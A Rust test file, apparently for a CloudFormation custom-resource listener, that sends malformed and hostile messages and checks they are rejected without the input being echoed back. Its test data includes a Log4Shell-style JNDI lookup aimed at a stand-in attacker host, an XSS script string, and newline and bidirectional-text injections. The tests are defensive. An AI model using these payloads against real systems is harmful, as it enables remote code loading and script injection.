//! Class 14: oversized or deep JSON, unknown types, numbers as texts, texts as anything, reasons without end.
//!
//! Guard: 32 KB, the parser's own depth limit, exact types (`Envelope::parse`, `shared/core/src/domain/request/custom_resource.rs`);
//! what is wrong is told in our own sentences and never repeated.

use std::time::Instant;

use futures::future::try_join_all;
use latchkey_tests::{Error, customer::Customer, scene::Scene};
use serde_json::{Value, json};

use super::support::{admissible, assert_not_read, assert_soon};

/// What no message does without.
const REQUIRED: &str =
    "RequestType StackId RequestId LogicalResourceId ResponseURL ResourceType ResourceProperties";

#[tokio::test]
async fn a_message_that_is_no_request_of_cloudformation_is_not_worked_on() -> Result<(), Error> {
    let scene = Scene::open()?;
    let attacker = scene.new_customer("us-east-1").await?;
    let request = admissible(&scene, &attacker).await?;
    let other_topic = scene.ready.topic("eu-west-1")?;
    let with = |name: &str, value: Value| request.clone().with(name, value);
    let property = |name: &str, value: Value| request.clone().with_property(name, value).text();
    let signed = |name: &str, value: &str| with(name, json!(value)).sign().text();
    let delete = |id: &str| {
        with("RequestType", json!("Delete"))
            .with("PhysicalResourceId", json!(id))
            .text()
    };
    let without = |name: &str| {
        let mut request = request.clone();
        request.fields.as_object_mut().unwrap().remove(name);
        request.text()
    };
    let deep = format!("{{\"RequestType\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let other_account = request.stack_id().replace(&attacker.account, "222222222222");
    let other_vendor = "arn:aws:sns:us-east-1:222222222222:latchkey-listener";
    let mut cases: Vec<(&str, String)> = Vec::new();
    for (name, value) in [
        ("ServiceToken", json!(other_vendor)),
        ("ServiceToken", json!(other_topic)),
        ("RequestType", json!("Describe")),
        ("RequestType", json!("create")),
        ("RequestType", json!(1)),
        ("PhysicalResourceId", json!("x")),
        ("ResourceType", json!("Custom::Other")),
        ("StackId", json!("arn:aws:s3:::bucket")),
        ("ResourceProperties", json!("x")),
        ("ResourceProperties", json!([])),
    ] {
        cases.push((name, with(name, value).text()));
    }
    for name in REQUIRED.split(' ') {
        cases.push((name, without(name)));
    }
    cases.extend([
        ("ServiceToken", property("ServiceToken", json!(other_topic))),
        ("PhysicalResourceId", signed("RequestType", "Update")),
        ("PhysicalResourceId", signed("RequestType", "Delete")),
        ("PhysicalResourceId", delete(&"x".repeat(1_025))),
        ("PhysicalResourceId", delete("a\nb")),
        ("ResponseURL", with("StackId", json!(other_account)).text()),
        ("RequestId", signed("RequestId", "a#REQUEST#b")),
        ("RequestId", signed("RequestId", &"x".repeat(129))),
        ("LogicalResourceId", signed("LogicalResourceId", "a|b")),
        ("request", property("Padding", json!("x".repeat(40_000)))),
        ("request", property("Padding", json!("x".repeat(200_000)))),
        ("request", deep),
        ("request", "[".repeat(30_000)),
        ("request", "[]".to_owned()),
        ("request", "null".to_owned()),
        ("request", "hello".to_owned()),
        ("request", "{\"RequestType\":\"Create\",\u{202e}}".to_owned()),
    ]);
    for (field, message) in cases {
        let sent: String = message.chars().take(200).collect();
        let message_id = attacker.tell(&scene, &message).await?;
        assert_not_read(&scene, &message_id, request.stack_id(), field)
            .await
            .map_err(|error| format!("{} bytes of {sent}: {error}", message.len()))?;
    }
    // A request of one region, through the topic of another.
    let elsewhere = request.clone().with("ServiceToken", json!(other_topic));
    let elsewhere = elsewhere.with_property("ServiceToken", json!(other_topic)).text();
    let other_region = Customer::sign_in(&scene.ready.endpoint, &attacker.account, "eu-west-1").await?;
    let sent = other_region.tell(&scene, &elsewhere).await?;
    assert_not_read(&scene, &sent, request.stack_id(), "StackId").await
}

#[tokio::test]
async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothing_behind()
-> Result<(), Error> {
    let (scene, api) = Scene::with_acme()?;
    const NO_TEXT: &str = "RoleArn is not a text";
    const NO_VERSION: &str = "TemplateVersion is not a version";
    let long = "x".repeat(3_000);
    let cases = [
        ("RoleArn", json!(["arn:aws:iam::222222222222:role/x"]), NO_TEXT),
        ("RoleArn", json!({ "a": { "b": "c" } }), NO_TEXT),
        (
            "RoleArn",
            json!("<script>alert(1)</script>"),
            "RoleArn is not an ARN",
        ),
        ("RoleArn", json!(long), "RoleArn is not an ARN"),
        ("TemplateVersion", json!("1.0.0\n[active]"), NO_VERSION),
        ("TemplateVersion", json!(long), NO_VERSION),
        ("TemplateVersion", json!({}), "TemplateVersion is not a text"),
        ("ExternalId", json!(["a", "b"]), "ExternalId"),
        (
            "ExternalId",
            json!("${jndi:ldap://evil.example/a}"),
            "never issued this external ID",
        ),
    ];
    let attempts = cases.map(|(property, value, sentence)| {
        let (scene, api) = (&scene, &api);
        async move {
            let (link, customer) = scene.newcomer(api, "us-east-1").await?;
            let started = Instant::now();
            let outcome = customer
                .launch("Garbage", &link.template.property(property, value.clone()))
                .await?;
            outcome.expect("ROLLBACK_COMPLETE")?;
            let told = outcome.reasons.iter().any(|reason| reason.contains(sentence));
            assert!(told, "{property} = {value}: {:?}", outcome.reasons);
            let repeated = value
                .as_str()
                .is_some_and(|value| outcome.reasons.iter().any(|r| r.contains(value)));
            // What was sent is not repeated to whoever reads the events.
            assert!(!repeated);
            assert_soon(started, 10);
            // The vendor reads the same, where the external ID says whose it is.
            let is_named = property != "ExternalId";
            let told = |shown: &Value| shown["reason"]["code"] == "invalid_request" || !is_named;
            let shown = api.wait_until(&link.id, told).await?;
            assert_eq!(
                (&shown["status"], shown["reason"].is_null()),
                (&json!("pending"), !is_named)
            );
            // The rollback's Delete names a genuine external ID: that it came is remembered for a while.
            let left = scene.items_about(&outcome.stack_id).await?;
            let is_known = |key: &str| match is_named {
                true => ["DELETED#", "TENANT#", "AUDIT#"]
                    .iter()
                    .any(|kind| key.starts_with(kind)),
                false => key.starts_with("DELETED#"),
            };
            assert!(left.iter().all(|key| is_known(key)), "{left:?}");
            Ok::<_, Error>(())
        }
    });
    try_join_all(attempts).await?;
    Ok(())
}
